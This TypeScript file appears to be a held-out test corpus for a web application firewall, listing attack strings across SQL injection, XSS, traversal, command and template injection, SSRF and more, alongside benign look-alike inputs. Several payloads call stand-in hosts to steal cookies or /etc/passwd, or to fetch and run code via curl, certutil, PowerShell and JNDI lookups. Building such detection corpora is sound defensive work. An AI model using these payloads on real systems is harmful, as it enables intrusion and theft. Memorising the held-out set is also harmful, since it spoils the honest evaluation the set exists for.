// A held-out corpus, written after the detectors were tuned on waf-corpus.ts and
// never tuned against: its figures are the honest estimate published in docs/waf.md.
import type { Sample } from './waf-corpus.js';

const q = (family: Sample['family'], value: string, name = 'q'): Sample => ({ family, variant: 'holdout', where: 'query', name, value });
const j = (family: Sample['family'], value: string, name = 'text'): Sample => ({ family, variant: 'holdout', where: 'json', name, value });

export function holdoutAttacks(): Sample[] {
  return [
    ...["1' AND 2>1--", "' OR 2 BETWEEN 1 AND 3--", "admin')--", "1)) or ((1=1", "' OR EXISTS(SELECT * FROM users)--", "' UNION(SELECT(1),(2))--",
      "0 UNION SELECT LOAD_FILE('/etc/passwd')", "1 AND (SELECT 5 FROM pg_sleep(5))", "'; INSERT INTO users VALUES('h','h')--", "1;UPDATE users SET role='admin'",
      "' OR username LIKE '%admin%", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "'+(SELECT 1 FROM dual)+'", "1 OR 0x50=0x50", "\" OR \"\"=\"", "' AND 1=0 UNION ALL SELECT 'admin', md5('x')--",
      "%27%20%6fR%20%27x%27%3d%27x", "1%0bUNION%0bSELECT%0b1", "1 /*!UNION*/ /*!SELECT*/ 1"].map((v) => q('sqli', v, 'id')),
    ...['<ScRiPt src=//evil.example/x.js></ScRiPt>', '<img src="x" onerror="fetch(\'//e.example?c=\'+document.cookie)">', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
      '<a href=" javascript:alert(1)">x</a>', '<form action="javascript:alert(1)"><input type=submit>', '<button formaction=javascript:alert(1)>x</button>', '<isindex type=image src=1 onerror=alert(1)>',
      '<table background="javascript:alert(1)">', '"><svg onload=confirm(1)>', "';top['al'+'ert'](1);//", '<img/src/onerror=alert(1)>', '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '<iframe/src="data:text/html,<script>alert(1)</script>">',
      '<link rel=import href="data:text/html,<script>alert(1)</script>">', '<body/onpageshow=alert(1)>'].map((v) => j('xss', v)),
    ...['..%2f..%2f..%2fetc%2fpasswd', '%2e%2e/%2e%2e/%2e%2e/etc/shadow', '..%252f..%252f..%252fetc%252fpasswd', '/var/www/../../etc/passwd', '..%5c..%5c..%5cwindows%5cwin.ini',
      '....\\\\....\\\\etc\\\\hosts', '/..;/WEB-INF/web.xml', 'php://input', 'file://localhost/etc/passwd', '../../../root/.ssh/id_rsa', '..%c0%af..%c0%afetc/passwd', 'C:/Windows/win.ini'].map((v) => q('traversal', v, 'page')),
    ...['; id;', '|| cat /etc/hosts', '$(sleep 5)', '`sleep 5`', '; ping -c 3 evil.example', '| curl -d @/etc/passwd evil.example', '& whoami &', '; /bin/bash -c "id"', '%0aid',
      "127.0.0.1|/usr/bin/id", '& certutil -urlcache -f http://evil.example/x.exe x.exe', '| powershell.exe -nop -c "iex(New-Object Net.WebClient).DownloadString(\'http://e.example/x\')"', ';echo${IFS}pwned>/tmp/p'].map((v) => q('command', v, 'ip')),
    ...['{{ 9*9 }}', '${{7*7}}', "{{ ''.__class__.__base__.__subclasses__() }}", '{{ cycler.__init__.__globals__.os.popen("id").read() }}', '<%= system("id") %>', '${"".getClass().forName("java.lang.Runtime")}',
      '${jNdI:LdAp://evil.example/x}', '${${upper:j}ndi:dns://evil.example/x}', '${j${::-n}di:ldap://evil.example/x}', '${sys:user.home}', '#{session.setAttribute("a","b")}', '{{request|attr("application")}}'].map((v) => j('template', v, 'name')),
    ...['<?php echo shell_exec($_GET["c"]); ?>', 'O:4:"Evil":1:{s:3:"cmd";s:2:"id";}', "global.process.mainModule.require('child_process').execSync('id')", '<?=phpinfo()?>'].map((v) => q('code', v, 'data')),
    { family: 'code', variant: 'holdout', where: 'query', name: '__proto__[isAdmin]', value: 'true' },
    { family: 'code', variant: 'holdout', where: 'query', name: 'constructor[prototype][isAdmin]', value: 'true' },
    ...['http://127.0.0.2:8080/', 'http://[0:0:0:0:0:0:0:1]/', 'http://017700000001/', 'http://0x7f.0x0.0x0.0x1/', 'https://169.254.169.254/metadata/v1/', 'http://localhost.localdomain/',
      'http://127.0.0.1#@example.com/', 'gopher://localhost:25/_HELO', 'http://[fe80::1]/', 'ldap://127.0.0.1/'].map((v) => q('ssrf', v, 'callback_url')),
  ];
}

export function holdoutBenign(): Sample[] {
  const texts = [
    "Conan O'Brien and Sinéad O'Connor", "We'll select the winners on Friday", "Union Pacific railroad", "Don't drop the ball!", "Where's the 'insert' key?", "Let's update the docs & ship",
    "Ben & Jerry's", "1 or 2 people", "rate: 4.5/5", "He's 6'2\"", "path/to/file.txt", "\"quoted\" text", "x = y + z", "(see above)", "[draft] Re: your order #123",
    "tl;dr: it works", "C# and F# are languages", "Reply-To: bob@example.org", "It costs $5 (or €4)", "<3 thanks", "SELECT is a keyword in SQL", "order by price, then by name",
    "Echo & the Bunnymen", "The cat sat on the mat; the dog did not", "From: Alice; To: Bob", "yes/no/maybe", "`npm run build`", "a & b | c", "Dear {{ first_name }},",
    "Meet at 10:00; room 4", "50% of 1,000 = 500", "O'Reilly Media — Learning SQL", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
  ];
  const out: Sample[] = [];
  for (const t of texts) { out.push(q('benign', t)); out.push(j('benign', t)); }
  out.push({ family: 'benign', variant: 'holdout', where: 'query', name: 'return_to', value: 'https://shop.example.com/cart?id=5' });
  out.push({ family: 'benign', variant: 'holdout', where: 'json', name: 'body', value: '## Install\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\n```' });
  out.push({ family: 'benign', variant: 'holdout', where: 'json', name: 'snippet', value: 'document.getElementById("x").addEventListener("click", () => save());' });
  return out;
}
